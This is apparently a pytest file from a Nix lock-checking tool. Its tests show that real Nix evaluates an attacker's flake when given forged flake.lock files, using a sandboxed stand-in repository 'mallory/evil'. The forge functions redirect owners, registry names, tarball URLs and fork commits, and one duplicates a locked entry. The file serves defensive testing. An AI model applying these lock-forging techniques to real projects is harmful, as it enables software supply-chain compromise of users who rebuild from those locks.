"""That the attacks are attacks: real Nix takes the forged lock, runs the attacker's code and ends with success."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from flakebot.rehearsal.folder import rehearsal_folder
from tests.attacks.estate import CONSUMER, Estate, flake, lock_history, open_estate
from tests.attacks.locks import SEASONS, VERSIONS, stored
from tests.attacks.updates import Document, Fields, fields
from tests.lock.samples import Edits, edited, written

EVIL, EVIL_LINK = "github:mallory/evil", "https://github.com/mallory/evil/archive/main.tar.gz"
Forge = Callable[[Estate, Document], bytes]


@pytest.fixture(scope="module")
def grown() -> Iterator[tuple[Estate, dict[str, bytes]]]:
    """An estate that has seen all its seasons, with the lock of each, and an attacker."""
    with rehearsal_folder(None) as folder, open_estate(folder) as estate:
        locks = dict(lock_history(estate))
        estate.publish("mallory/evil", flake(said="evil"))
        yield estate, locks


@pytest.fixture
def estate(grown: tuple[Estate, dict[str, bytes]]) -> Estate:
    return grown[0]


@pytest.fixture
def lock(grown: tuple[Estate, dict[str, bytes]]) -> bytes:
    return grown[1]["parents"]


def nix(estate: Estate, *words: str, cwd: Path) -> str:
    """Run Nix and return what it printed; it must succeed."""
    argv = ("nix", *words)
    ended = subprocess.run(
        argv, cwd=cwd, env=estate.environment(), check=False, capture_output=True, text=True, timeout=60
    )
    assert ended.returncode == 0, ended.stderr
    return ended.stdout


def said(estate: Estate, lock: bytes) -> str:
    """Evaluate the consumer with a lock, as a machine that is rebuilt does."""
    folder = estate.flake_folder(CONSUMER, lock)
    return nix(estate, "eval", "--raw", "--no-update-lock-file", f"path:{folder}#said", cwd=folder)


def locked(estate: Estate, reference: str) -> Fields:
    """Return what Nix itself locks a flake to."""
    metadata = json.loads(nix(estate, "flake", "metadata", "--json", reference, cwd=estate.folder))
    return {key: value for key, value in metadata["locked"].items() if not key.startswith("__")}


def _edit(place: str, *parts: str) -> Forge:
    """Put the attacker's flake into some attributes of a place, leaving everything else there as it is."""

    def forge(estate: Estate, document: Document) -> bytes:
        found = locked(estate, EVIL)
        wanted: Edits = {f"{place}/{part}": found[part] for part in parts} if parts else {place: found}
        return written(edited(document, wanted))

    return forge


def _brought_along(estate: Estate, document: Document) -> bytes:
    node = {"locked": locked(estate, EVIL), "original": {"type": "github", "owner": "mallory", "repo": "evil"}}
    return written(edited(document, {"nodes/core": node}))


def _locked_twice(estate: Estate, document: Document) -> bytes:
    """Write the honest place first and the attacker's behind it."""
    text = written(document).decode()
    head, mark, tail = text.partition('    "lib": {\n')
    return (
        head + mark + tail.replace('"original"', f'"locked": {json.dumps(locked(estate, EVIL))}, "original"', 1)
    ).encode()


def _served_by_the_attacker(estate: Estate, document: Document) -> bytes:
    found = locked(estate, EVIL_LINK)
    return written(edited(document, {"nodes/pack/locked": found | {"url": EVIL_LINK, "type": "tarball"}}))


def _forked(estate: Estate, document: Document) -> bytes:
    """Push to a fork of lib, and name the commit under lib's own name."""
    account = estate.github.hub.world.accounts["mallory"]
    rev = estate.github.repository("nixlab/lib").fork(account).commit(flake(said="evil"), "Evil")
    return written(edited(document, {"nodes/lib/locked": locked(estate, f"github:nixlab/lib/{rev}")}))


RUNS_EVIL: dict[str, Forge] = {
    "locked to another owner than it asks for": _edit(
        "nodes/lib/locked", "owner", "repo", "rev", "narHash", "lastModified"
    ),
    "locked to another repository than it asks for": _edit("nodes/base/locked"),
    "a name of a registry is locked to another place": _edit("nodes/known/locked"),
    "a link is locked to another address": _served_by_the_attacker,
    "an input that stays asks for something else": _brought_along,
    "a node's locked stands twice, once with an escaped letter": _locked_twice,
    "a commit of a fork, served under the name of its parent": _forked,
}
"""Forged locks with which Nix runs the attacker's code, by the line of the attack."""


@pytest.mark.parametrize("line", RUNS_EVIL)
def test_nix_runs_the_attackers_code(estate: Estate, lock: bytes, line: str) -> None:
    forged = RUNS_EVIL[line](estate, json.loads(lock))
    assert "evil" not in said(estate, lock)
    assert "evil" in said(estate, forged)


def test_nix_goes_back_without_a_word(estate: Estate, grown: tuple[Estate, dict[str, bytes]]) -> None:
    assert "lib 2" in said(estate, grown[1]["parents"])
    assert "lib 1" in said(estate, grown[1]["old"])


def _hiding(document: Document) -> bytes:
    return written(edited(document, {"nodes/hidden": fields(document, "nodes", "leaf"), "overrides": {}}))


def _unlike_nix(document: Document) -> bytes:
    return json.dumps(document).encode()


@pytest.mark.parametrize("forge", [_hiding, _unlike_nix], ids=lambda forge: forge.__name__)
def test_nix_takes_a_lock_that_it_would_not_write(
    estate: Estate, lock: bytes, forge: Callable[[Document], bytes]
) -> None:
    assert said(estate, forge(json.loads(lock))) == said(estate, lock)


@pytest.mark.parametrize("season", SEASONS)
def test_the_stored_locks_are_those_that_nix_writes(grown: tuple[Estate, dict[str, bytes]], season: str) -> None:
    estate, locks = grown
    version = nix(estate, "--version", cwd=estate.folder)
    found = [name for name in VERSIONS if f" {name.removeprefix('nix-')}." in version]
    if not found:
        pytest.skip(f"no lock of {version.strip()} is stored")
    assert locks[season] == stored(found[0], season)
